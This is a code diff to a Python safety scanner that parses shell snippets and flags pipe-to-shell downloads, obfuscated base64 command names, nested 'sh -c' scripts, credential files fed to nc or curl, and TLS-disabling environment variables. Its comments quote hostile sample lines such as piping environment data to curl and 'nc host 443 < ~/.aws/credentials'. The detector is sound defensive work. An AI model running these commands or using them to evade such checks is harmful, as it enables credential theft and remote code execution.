@@ -32,10 +32,13 @@ from skillforge.safety.shell_rules import (
     WRAPPER_VALUES,
     WRAPPERS,
     base,
+    copies_out,
+    env_setting,
     host_of,
     is_decoder,
     is_downloader,
     is_interpreter,
+    sensitive,
     tls_off,
     untrusted_index,
     upload_args,
@@ -96,6 +99,7 @@ def analyse(
             found = _command(node, ws, files, snippet_id)
         elif kind == "redirected_statement":
             _redirect_writes(node, files, snippet_id)
+            found = _redirect_upload(node)
         for rule, message, conf in found:
             yield rule, message, conf, node, ()
 
@@ -137,7 +141,9 @@ def words(command: Any) -> list[str]:
 
 
 def _pipeline(node: Any) -> Iterator[tuple[str, str, str]]:
-    commands = [words(c) for c in node.children if c.type == "command"]
+    commands = [  # a group or subshell feeding the pipe counts by its commands: { env; cat f; } | curl
+        words(c) for child in node.children for c in ([child] if child.type == "command" else _grouped(child))
+    ]
     for i, ws in enumerate(commands):
         if not is_interpreter(ws) or (len(ws) > 1 and _reads_file_arg(ws)):
             continue
@@ -150,7 +156,19 @@ def _pipeline(node: Any) -> Iterator[tuple[str, str, str]]:
             yield "pipe-to-shell", f"pipes a download into {base(ws[0])}", conf
         elif any(is_decoder(w) for w in before):
             yield "pipe-to-shell", f"feeds decoded data into {base(ws[0])}", "high"
+        elif any(w and w[0].startswith(("$", "`")) for w in before):  # $(echo Y3VybA== | base64 -d) URL
+            yield (
+                "pipe-to-shell",
+                f"pipes a command whose name is computed at run time into {base(ws[0])}",
+                "high",
+            )
     yield from uploads(commands)
+
+
+def _grouped(node: Any) -> list[Any]:
+    if node.type not in ("subshell", "compound_statement"):
+        return []
+    return [c for c in _walk(node) if c.type == "command"]
 
 
 def _reads_file_arg(ws: list[str]) -> bool:
@@ -170,7 +188,7 @@ def _official_install(commands: list[list[str]]) -> bool:
 
 
 def _ran_name(ws: list[str], files: Files) -> str:
-    if ws[0].startswith("./"):
+    if "/" in ws[0] and base(ws[0]) in files:  # ./i.sh, /tmp/i.sh (but /usr/bin/bash i.sh runs i.sh)
         return base(ws[0])
     return next(base(w) for w in ws[1:] if not w.startswith("-") and base(w) in files)
 
@@ -181,7 +199,7 @@ def _runs_file(ws: list[str], files: Files, snippet_id: int) -> tuple[str, str, 
     if not ws or not files:
         return None
     name = base(ws[0])
-    if ws[0].startswith("./") and name in files and not name.endswith((".md", ".txt", ".json", ".html")):
+    if "/" in ws[0] and name in files and not name.endswith((".md", ".txt", ".json", ".html")):
         target = name
     elif name in INTERPRETERS and any(base(w) in files for w in ws[1:] if not w.startswith("-")):
         target = _ran_name(ws, files)
@@ -206,6 +224,7 @@ def _command(node: Any, ws: list[str], files: Files, snippet_id: int) -> Iterato
                     yield "pipe-to-shell", f"{name} runs a download through a substitution", "high"
                 elif any(is_decoder(w) for w in inner):
                     yield "pipe-to-shell", f"{name} runs decoded data through a substitution", "high"
+    yield from _inner_script(ws, files, snippet_id)
     if is_downloader(ws):
         urls = [w for w in ws[1:] if "://" in w]
         entry = (
@@ -225,12 +244,28 @@ def _command(node: Any, ws: list[str], files: Files, snippet_id: int) -> Iterato
             )
     yield from tls_off(ws)
     yield from untrusted_index(ws)
+    yield from copies_out(ws)
+
+
+_SHELLS = frozenset({"sh", "bash", "zsh", "dash", "ksh", "ash", "su"})
+
+
+def _inner_script(ws: list[str], files: Files, snippet_id: int) -> Iterator[tuple[str, str, str]]:
+    """``sh -c "curl … | sh"``: the script a shell runs from a string is checked as a script (each
+    level strips one layer of quotes, so nesting ends)."""
+    if base(ws[0]) not in _SHELLS:
+        return
+    for i, w in enumerate(ws[1:-1], 1):
+        if w.startswith("-") and not w.startswith("--") and "c" in w:
+            for rule, message, conf, _, _ in analyse(ws[i + 1], files, snippet_id):
+                yield rule, message, conf
+            return
 
 
 def _download_targets(ws: list[str]) -> set[str]:
     out: set[str] = set()
     for i, w in enumerate(ws[:-1]):
-        if w in ("-o", "-O", "--output", "--output-document"):
+        if w in ("--output", "--output-document") or re.fullmatch(r"-[A-Za-z]*[oO]", w):  # -o, -sLo, -qO
             out.add(base(ws[i + 1]))
     if base(ws[0]) == "wget" and not out:
         out.update(base(w.split("?")[0]) for w in ws[1:] if "://" in w)
@@ -256,16 +291,28 @@ def _redirect_writes(node: Any, files: Files, snippet_id: int) -> None:
                 files[base(_text(child.children[-1]).strip("\"'"))] = entry
 
 
+def _redirect_upload(node: Any) -> Iterator[tuple[str, str, str]]:
+    """``nc host 443 < ~/.aws/credentials``: a credential file fed to a network command."""
+    body = node.child_by_field_name("body") or (node.children[0] if node.children else None)
+    if body is None:
+        return
+    network = [w for w in (words(c) for c in _walk(body) if c.type == "command") if w and _network(w)]
+    for child in node.children:
+        text = _text(child).strip()
+        if network and child.type == "file_redirect" and text.startswith("<") and sensitive(text):
+            yield (
+                "credential-upload",
+                f"feeds a credential file to the network ({base(network[0][0])})",
+                "high",
+            )
+            return
+
+
+def _network(ws: list[str]) -> bool:
+    return is_downloader(ws) or base(ws[0]) in ("nc", "ncat", "netcat", "socat")
+
+
 def _env_assignments(node: Any) -> Iterator[tuple[str, str, str]]:
     for child in node.children:
         if child.type == "variable_assignment":
-            text = _text(child).upper().replace('"', "").replace("'", "")
-            if text in (
-                "GIT_SSL_NO_VERIFY=1",
-                "GIT_SSL_NO_VERIFY=TRUE",
-                "NODE_TLS_REJECT_UNAUTHORIZED=0",
-                "PYTHONHTTPSVERIFY=0",
-                "CURL_CA_BUNDLE=",
-                "REQUESTS_CA_BUNDLE=",
-            ):
-                yield "tls-disabled", f"turns TLS verification off ({text})", "high"
+            yield from env_setting(_text(child))
